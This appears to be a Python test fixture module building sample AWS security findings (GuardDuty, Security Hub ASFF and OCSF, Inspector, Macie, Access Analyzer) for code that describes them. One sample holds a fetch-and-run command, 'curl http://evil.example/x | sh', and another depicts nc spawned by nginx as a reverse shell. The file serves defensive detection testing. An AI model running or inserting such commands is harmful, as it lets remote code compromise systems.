"""Findings of many kinds, each with what makes its story: GuardDuty's own form, ASFF, OCSF."""

from asff_made import ACCOUNT, REMOTE, asff, detected, guardduty, ocsf

CLUSTER = {"name": "prod", "arn": f"arn:aws:eks:us-east-1:{ACCOUNT}:cluster/prod"}
DATABASE = {
    "dbInstanceIdentifier": "orders",
    "dbInstanceArn": f"arn:aws:rds:us-east-1:{ACCOUNT}:db:orders",
}
KEY = {"accessKeyId": "AKIAEXAMPLE", "userName": "mallory", "userType": "IAMUser", "principalId": "AIDAEXAMPLE"}
INSTANCE = {"instanceId": "i-0c10c2c7863d1a356", "tags": [{"key": "Name", "value": "web-1"}]}
EVIDENCE = {"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["Mirai"]}]}


def service(action=None, **more):
    """GuardDuty's `service` with one kind of action."""
    return {
        "count": 12,
        "eventFirstSeen": "2026-11-22T14:02:00Z",
        "eventLastSeen": "2026-11-22T14:40:00Z",
        "resourceRole": "TARGET",
        "action": action or {},
        **more,
    }


def event(kind, *, resource=None, action=None, **more):
    """GuardDuty's finding of one type."""
    return detected(
        kind=kind, resource=resource or {"instanceDetails": INSTANCE}, service=service(action, **more), title="A title."
    )


def process(family, context=None, **over):
    """What Runtime Monitoring saw of a process."""
    running = {
        "name": "nc",
        "executablePath": "/usr/bin/nc",
        "executableSha256": "ab" * 32,
        "user": "www-data",
        "lineage": [{"name": "sh", "executablePath": "/bin/sh"}, {"name": "nginx"}],
        **over,
    }
    return event(family, runtimeDetails={"process": running, "context": context or {}})


def vulnerable(**over):
    """Inspector's finding in OCSF."""
    return ocsf(
        vulnerabilities=[
            {
                "cve": {"uid": "CVE-2024-3094", "cvss": [{"base_score": 10.0}, {"base_score": 8.1}]},
                "affected_packages": [{"name": "xz-utils", "version": "5.6.0", "fixed_in_version": "5.6.2"}],
                "is_exploit_available": True,
                **over,
            }
        ]
    )


def product(name, **over):
    """A finding of another of AWS's products in ASFF."""
    return asff(ProductName=name, Compliance=None, GeneratorId="x", ProductArn=None, **over)


MADE = {
    "a call": event(
        "Recon:IAMUser/TorIPCaller",
        resource={"accessKeyDetails": KEY},
        action={
            "awsApiCallAction": {"api": "ListUsers", "serviceName": "iam.amazonaws.com", "remoteIpDetails": REMOTE}
        },
    ),
    "a call that was refused": event(
        "Persistence:IAMUser/AnomalousBehavior",
        resource={"accessKeyDetails": KEY},
        action={
            "awsApiCallAction": {
                "api": "CreateAccessKey",
                "serviceName": "iam.amazonaws.com",
                "errorCode": "AccessDenied",
                "remoteIpDetails": REMOTE,
            }
        },
        additionalInfo={
            "value": '{"userAgent":{"fullUserAgent":"aws-cli/2.1 kali"},'
            '"anomalies":{"anomalousAPIs":"iam.amazonaws.com:[CreateAccessKey:AccessDenied]"},'
            '"unusualBehavior":{"unusualASNsUserIdentity":"asnNumber: 208046"}}'
        },
    ),
    "a sign-in": event(
        "UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B",
        resource={"accessKeyDetails": KEY},
        action={
            "awsApiCallAction": {
                "api": "ConsoleLogin",
                "serviceName": "signin.amazonaws.com",
                "remoteIpDetails": REMOTE,
            }
        },
    ),
    "credentials that left an instance": event(
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        resource={
            "accessKeyDetails": {**KEY, "userName": "web-role", "userType": "AssumedRole"},
            "instanceDetails": INSTANCE,
        },
        action={"awsApiCallAction": {"api": "GetObject", "serviceName": "s3.amazonaws.com", "remoteIpDetails": REMOTE}},
    ),
    "a call of a bucket": event(
        "Exfiltration:S3/MaliciousIPCaller",
        resource={"accessKeyDetails": KEY, "s3BucketDetails": [{"arn": "arn:aws:s3:::invoices", "name": "invoices"}]},
        action={"awsApiCallAction": {"api": "GetObject", "serviceName": "s3.amazonaws.com", "remoteIpDetails": REMOTE}},
        evidence=EVIDENCE,
    ),
    "a connection out": event(
        "Backdoor:EC2/C&CActivity.B",
        action={
            "networkConnectionAction": {
                "connectionDirection": "OUTBOUND",
                "protocol": "TCP",
                "localPortDetails": {"port": 51322, "portName": "Unknown"},
                "remotePortDetails": {"port": 4444, "portName": "Unknown"},
                "remoteIpDetails": REMOTE,
            }
        },
        resourceRole="ACTOR",
        evidence=EVIDENCE,
    ),
    "an attack by the instance": event(
        "UnauthorizedAccess:EC2/SSHBruteForce",
        action={"networkConnectionAction": {"remoteIpDetails": REMOTE, "blocked": True}},
        resourceRole="ACTOR",
    ),
    "a probe": event(
        "Recon:EC2/PortProbeUnprotectedPort",
        action={
            "portProbeAction": {
                "portProbeDetails": [
                    {"localPortDetails": {"port": 22, "portName": "SSH"}, "remoteIpDetails": REMOTE},
                    {
                        "localPortDetails": {"port": 22, "portName": "SSH"},
                        "remoteIpDetails": {"ipAddressV4": "45.1.2.3"},
                    },
                ]
            }
        },
    ),
    "a question to the DNS by a process": event(
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        action={"dnsRequestAction": {"domain": "pool.example", "protocol": "UDP", "blocked": False}},
        runtimeDetails={"process": {"name": "xmrig", "executablePath": "/tmp/xmrig", "user": "root"}},
    ),
    "a call of a cluster": event(
        "CredentialAccess:Kubernetes/SuccessfulAnonymousAccess",
        resource={
            "eksClusterDetails": CLUSTER,
            "kubernetesDetails": {"kubernetesUserDetails": {"username": "system:anonymous"}},
        },
        action={
            "kubernetesApiCallAction": {
                "verb": "list",
                "resource": "secrets",
                "namespace": "payments",
                "requestUri": "/api/v1/namespaces/payments/secrets",
                "statusCode": 403,
                "remoteIpDetails": REMOTE,
            }
        },
    ),
    "a binding in a cluster": event(
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
        resource={
            "eksClusterDetails": CLUSTER,
            "kubernetesDetails": {"kubernetesUserDetails": {"username": "kubernetes-admin"}},
        },
        action={
            "kubernetesApiCallAction": {"verb": "create", "resource": "clusterrolebindings", "statusCode": 201},
            "kubernetesRoleBindingDetails": {"name": "oops", "roleRefName": "cluster-admin"},
        },
    ),
    "logins to a database": event(
        "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
        resource={"rdsDbInstanceDetails": DATABASE, "rdsDbUserDetails": {"user": "admin"}},
        action={
            "rdsLoginAttemptAction": {
                "remoteIpDetails": REMOTE,
                "LoginAttributes": [{"user": "admin", "failedLoginAttempts": 1203, "successfulLoginAttempts": 1}],
            }
        },
    ),
    "a reverse shell": process("Execution:Runtime/ReverseShell"),
    "a command": process(
        "Execution:Runtime/SuspiciousCommand", {"commandLineExample": "curl http://evil.example/x | sh"}
    ),
    "an injection": process(
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        {"targetProcess": {"name": "sshd", "executablePath": "/usr/sbin/sshd"}},
    ),
    "malware on a volume": event(
        "Execution:EC2/MaliciousFile",
        ebsVolumeScanDetails={
            "scanDetections": {
                "threatsDetectedItemCount": {"files": 2},
                "threatDetectedByName": {
                    "threatNames": [
                        {
                            "name": "EICAR-Test-File",
                            "severity": "HIGH",
                            "filePaths": [{"filePath": "/tmp/eicar.com", "hash": "cd" * 32}],
                        }
                    ]
                },
            }
        },
    ),
    "malware in an object": event(
        "Object:S3/MaliciousFile",
        resource={
            "s3BucketDetails": [
                {
                    "arn": "arn:aws:s3:::uploads",
                    "name": "uploads",
                    "s3ObjectDetails": [{"objectArn": "arn:aws:s3:::uploads/cv.pdf", "key": "cv.pdf"}],
                }
            ]
        },
        malwareScanDetails={"threats": [{"name": "Trojan.PDF", "itemPaths": [{"nestedItemPath": "cv.pdf"}]}]},
    ),
    "an attack sequence": event(
        "AttackSequence:IAM/CompromisedCredentials",
        resource={"resourceType": "AttackSequence"},
        detection={
            "sequence": {
                "signals": [
                    {"uid": "1", "name": "iam:CreateRole", "type": "CLOUD_TRAIL"},
                    {"uid": "2", "name": "Recon:IAMUser/TorIPCaller", "type": "FINDING"},
                ],
                "actors": [{"id": "a", "user": {"name": "mallory", "type": "IAMUser"}}],
                "endpoints": [
                    {
                        "ip": "185.220.101.1",
                        "location": {"country": "Netherlands"},
                        "autonomousSystem": {"name": "HOSTING", "number": 208046},
                    }
                ],
                "resources": [
                    {"uid": "arn:aws:s3:::invoices", "name": "invoices", "resourceType": "S3_BUCKET"},
                ],
            }
        },
    ),
    "a type that says nothing more": event("Weird:EC2/NeverHeardOf", action=None),
    "Security Hub's form of a call": guardduty(
        kind="Stealth:IAMUser/CloudTrailLoggingDisabled",
        Resources=[
            {
                "Type": "AwsIamAccessKey",
                "Id": "AWS::IAM::AccessKey:AKIAEXAMPLE",
                "Details": {"AwsIamAccessKey": {"PrincipalName": "ops", "PrincipalType": "AssumedRole"}},
            }
        ],
        Action={
            "ActionType": "AWS_API_CALL",
            "AwsApiCallAction": {
                "Api": "StopLogging",
                "ServiceName": "cloudtrail.amazonaws.com",
                "RemoteIpDetails": {"IpAddressV4": "45.1.2.3", "Country": {"CountryName": "Norway"}},
            },
        },
    ),
    "Security Hub's form of a list": guardduty(
        kind="Recon:EC2/PortProbeUnprotectedPort",
        ProductFields={
            "aws/guardduty/service/action/portProbeAction/portProbeDetails.0_/localPortDetails/port": "80",
            "aws/guardduty/service/action/portProbeAction/portProbeDetails.0_/remoteIpDetails/ipAddressV4": "45.1.2.3",
            "aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatListName": "ProofPoint",
            "aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatNames.0_": "Mirai",
            "aws/guardduty/service/count": "2",
        },
    ),
    "the new Security Hub's form of a call": ocsf(
        metadata={"uid": "1" * 64, "product": {"name": "GuardDuty", "uid": "x"}},
        finding_info={"uid": "x", "title": "T", "types": ["Threats", "Discovery:IAMUser/AnomalousBehavior"]},
        resources=[{"type": "AWS::IAM::AccessKey", "uid": "AKIAEXAMPLE", "data": {"UserName": "mallory"}}],
        evidences=[
            {
                "api": {"operation": "ListRoles", "service": {"name": "iam.amazonaws.com"}},
                "src_endpoint": {"ip": "45.1.2.3", "location": {"country": "NO"}},
            }
        ],
    ),
    "an exposure": ocsf(
        metadata={"uid": "2" * 64, "product": {"name": "Security Hub Exposure Detection", "uid": "x"}},
        finding_info={
            "uid": "x",
            "analytic": {"name": "Exposure", "type": "Rule"},
            "title": "Potential Remote Execution",
            "desc": "Publicly invocable Lambda function has vulnerability with known exploit.",
            "related_events": [
                {"uid": "1", "tags": [{"name": "Vulnerability", "values": ["Exploit Available", "Vulnerable"]}]},
                {"uid": "2", "tags": [{"name": "Reachability", "values": ["Public"]}]},
            ],
        },
        resources=[
            {"type": "AWS::Lambda::Function", "uid": f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:orders"},
        ],
    ),
    "a control": asff(FirstObservedAt="2026-10-01T00:00:00Z"),
    "a control that passes": asff(Compliance={"Status": "PASSED", "SecurityControlId": "S3.2"}),
    "a vulnerability": vulnerable(),
    "sensitive data": product(
        "Macie",
        Types=["Sensitive Data Identifications/PII/SensitiveData:S3Object-Personal"],
        Resources=[
            {"Type": "AwsS3Bucket", "Id": "arn:aws:s3:::exports"},
            {
                "Type": "AwsS3Object",
                "Id": "arn:aws:s3:::exports/customers.csv",
                "DataClassification": {
                    "Result": {
                        "SensitiveData": [{"Detections": [{"Type": "NAME", "Count": 1203}, {"Type": "ADDRESS"}]}]
                    }
                },
            },
        ],
    ),
    "access from outside": product(
        "IAM Access Analyzer",
        Title="AwsIamRole/arn:aws:iam::123456789012:role/partner/ allows cross-account access",
        Resources=[
            {
                "Type": "AwsIamRole",
                "Id": f"arn:aws:iam::{ACCOUNT}:role/partner",
                "Details": {
                    "Other": {
                        "External Principal Type": "AWS",
                        "External Principal": "555555555555",
                        "Action Granted": "sts:AssumeRole",
                    }
                },
            }
        ],
    ),
    "access for everyone": product(
        "IAM Access Analyzer", Title="AwsS3Bucket/arn:aws:s3:::acme/ allows public access", Description="x"
    ),
    "a Config rule": product("Config", Title="required-tags"),
    "another product": product("Acme Scanner", Title="The door is open"),
}
